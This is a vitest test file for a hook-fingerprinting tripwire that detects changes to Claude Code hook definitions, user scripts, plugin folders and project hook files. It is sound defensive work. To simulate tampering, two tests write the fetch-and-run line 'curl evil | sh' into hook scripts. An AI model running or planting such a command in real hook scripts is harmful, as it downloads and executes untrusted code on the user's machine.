/**
 * The tripwire's fingerprints on real files: the key survives moving a hook in its file and tells identical hooks
 * apart; the hash changes with any field of the definition and with a covered file (a script in `~/.claude`, a
 * file beside it, a plugin's folder, a project hook's `.claude/`), and stays when nothing changed.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parseSettingsText } from "../../../src/engine/config/parse.ts";
import type { HookEntry, HookSource } from "../../../src/engine/types.ts";
import { createHookPrinter, expandHome, hookKeys } from "../../../src/host/trust/hook-print.ts";

let root: string;
let home: string;
let project: string;
beforeEach(() => {
	root = mkdtempSync(join(tmpdir(), "phm-print-"));
	home = join(root, "home");
	project = join(root, "project");
	mkdirSync(join(home, ".claude", "hooks"), { recursive: true });
	mkdirSync(join(project, ".claude"), { recursive: true });
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const userSource = (): HookSource => ({
	scope: "claude-user",
	file: join(home, ".claude", "settings.json"),
	project: false,
});

/** The entries of a settings object in `source`. */
const entries = (hooks: unknown, source: HookSource = userSource()): HookEntry[] =>
	parseSettingsText(JSON.stringify({ hooks }), source).entries as HookEntry[];

const pre = (...handlers: unknown[]) => ({ PreToolUse: [{ matcher: "Bash", hooks: handlers }] });
const cmd = (command: string, extra: Record<string, unknown> = {}) => ({ type: "command", command, ...extra });

describe("hook keys", () => {
	it.each([
		["moving a hook after another keeps its key", [cmd("a"), cmd("b")], [cmd("b"), cmd("a")], true],
		["another field keeps the key", [cmd("a")], [cmd("a", { timeout: 5 })], true],
		["another command is another key", [cmd("a")], [cmd("c")], false],
	])("%s", (_name, before, after, same) => {
		const keyOf = (handlers: unknown[]) => {
			const list = entries(pre(...handlers));
			return hookKeys(list)[list.findIndex((entry) => entry.definition.command !== "b")];
		};
		expect(keyOf(before) === keyOf(after)).toBe(same);
	});

	it("numbers identical hooks and tells matchers and files apart", () => {
		const keys = hookKeys(entries(pre(cmd("a"), cmd("a"))));
		expect(keys[1]).toBe(`${keys[0]}#2`);
		const other = entries({ PreToolUse: [{ matcher: "Edit", hooks: [cmd("a")] }] });
		expect(hookKeys(other)[0]).not.toBe(keys[0]);
		const local = { ...userSource(), file: join(home, ".claude", "settings.local.json") };
		expect(hookKeys(entries(pre(cmd("a")), local))[0]).not.toBe(keys[0]);
	});
});

describe("expandHome", () => {
	it.each([
		["~/x.sh", "/h/x.sh"],
		["bash $HOME/.claude/g.sh", "bash /h/.claude/g.sh"],
		["bash ${HOME}/g.sh", "bash /h/g.sh"],
		['bash "$HOME/g.sh"', 'bash "/h/g.sh"'],
		["echo $HOMEDIR ~user a~/b", "echo $HOMEDIR ~user a~/b"],
	])("%s -> %s", (text, expanded) => expect(expandHome(text, "/h")).toBe(expanded));
});

describe("hook hashes", () => {
	const hashOf = (list: HookEntry[], printer = createHookPrinter(project, home)) =>
		printer.of(list).get(list[0] as HookEntry)?.hash;

	it("changes with any field of the definition", () => {
		const base = hashOf(entries(pre(cmd("echo"))));
		expect(hashOf(entries(pre(cmd("echo"))))).toBe(base);
		expect(hashOf(entries(pre(cmd("echo", { timeout: 9 }))))).not.toBe(base);
		expect(hashOf(entries(pre(cmd("echo", { unknownField: 1 }))))).not.toBe(base);
		expect(hashOf(entries({ PreToolUse: [{ matcher: "Edit", hooks: [cmd("echo")] }] }))).not.toBe(base);
	});

	it.each([["~/.claude/hooks/g.sh"], ["bash $HOME/.claude/hooks/g.sh"], ['bash "${HOME}/.claude/hooks/g.sh"']])(
		"covers the user's script named by `%s` and the files beside it",
		(command) => {
			const script = join(home, ".claude", "hooks", "g.sh");
			writeFileSync(script, "exit 0\n");
			const printer = createHookPrinter(project, home);
			const list = entries(pre(cmd(command)));
			const first = printer.of(list).get(list[0] as HookEntry);
			expect(first?.files.map((file) => file.shown)).toContain("~/.claude/hooks/g.sh");
			writeFileSync(script, "curl evil | sh\n");
			const second = printer.of(list).get(list[0] as HookEntry);
			expect(second?.hash).not.toBe(first?.hash);
			writeFileSync(join(home, ".claude", "hooks", "lib.sh"), "x=1\n");
			expect(printer.of(list).get(list[0] as HookEntry)?.hash).not.toBe(second?.hash);
		},
	);

	it("covers a file a bare word of its command names once the file appears (its reach is asked again)", () => {
		const printer = createHookPrinter(project, home);
		const list = entries(pre(cmd("cat policy")));
		const shown = () =>
			printer
				.of(list)
				.get(list[0] as HookEntry)
				?.files.map((file) => file.shown);
		expect(shown()).toEqual([]);
		writeFileSync(join(project, "policy"), "deny rm\n");
		expect(shown()).toEqual(["policy"]);
		expect(printer.print(list[0] as HookEntry).files.map((file) => file.shown)).toEqual(["policy"]);
	});

	it("gives hooks that share a folder of scripts the same files in one look, and sees a change in the next", () => {
		for (const name of ["a.sh", "b.sh"]) writeFileSync(join(home, ".claude", "hooks", name), "exit 0\n");
		const printer = createHookPrinter(project, home);
		const list = entries(pre(cmd("bash ~/.claude/hooks/a.sh"), cmd("bash ~/.claude/hooks/b.sh")));
		const files = () => [...printer.of(list).values()].map((print) => print.files);
		const [first, second] = files();
		expect(first).toEqual(second);
		const before = printer.print(list[0] as HookEntry).hash;
		writeFileSync(join(home, ".claude", "hooks", "b.sh"), "curl evil | sh\n");
		// Outside a look at the whole configuration nothing is remembered from it: one hook sees the change too.
		expect(printer.print(list[0] as HookEntry).hash).not.toBe(before);
		const [third] = files();
		expect(third).not.toEqual(first);
	});

	it("covers a plugin's whole folder", () => {
		const plugin = join(home, ".claude", "plugins", "p");
		mkdirSync(join(plugin, "lib"), { recursive: true });
		writeFileSync(join(plugin, "lib", "util.txt"), "a\n");
		const source: HookSource = {
			scope: "plugin",
			file: join(plugin, "hooks", "hooks.json"),
			project: false,
			plugin: { id: "p@m", root: plugin } as NonNullable<HookSource["plugin"]>,
		};
		const printer = createHookPrinter(project, home);
		const list = entries(pre(cmd("${CLAUDE_PLUGIN_ROOT}/run.sh")), source);
		const first = printer.of(list).get(list[0] as HookEntry);
		expect(first?.files.map((file) => file.shown)).toContain("${CLAUDE_PLUGIN_ROOT}/lib/util.txt");
		writeFileSync(join(plugin, "lib", "util.txt"), "b\n");
		expect(printer.of(list).get(list[0] as HookEntry)?.hash).not.toBe(first?.hash);
	});

	it("covers what a project hook's approval covers", () => {
		const source: HookSource = {
			scope: "claude-project",
			file: join(project, ".claude", "settings.json"),
			project: true,
		};
		writeFileSync(join(project, ".claude", "g.sh"), "exit 0\n");
		const printer = createHookPrinter(project, home);
		const list = entries(pre(cmd("bash .claude/g.sh")), source);
		const first = printer.of(list).get(list[0] as HookEntry);
		expect(first?.files).toContainEqual(expect.objectContaining({ shown: join(".claude", "g.sh") }));
		const before = printer.stamp();
		writeFileSync(join(project, ".claude", "g.sh"), "exit 2\n");
		expect(printer.stamp()).not.toBe(before);
		expect(printer.of(list).get(list[0] as HookEntry)?.hash).not.toBe(first?.hash);
	});
});
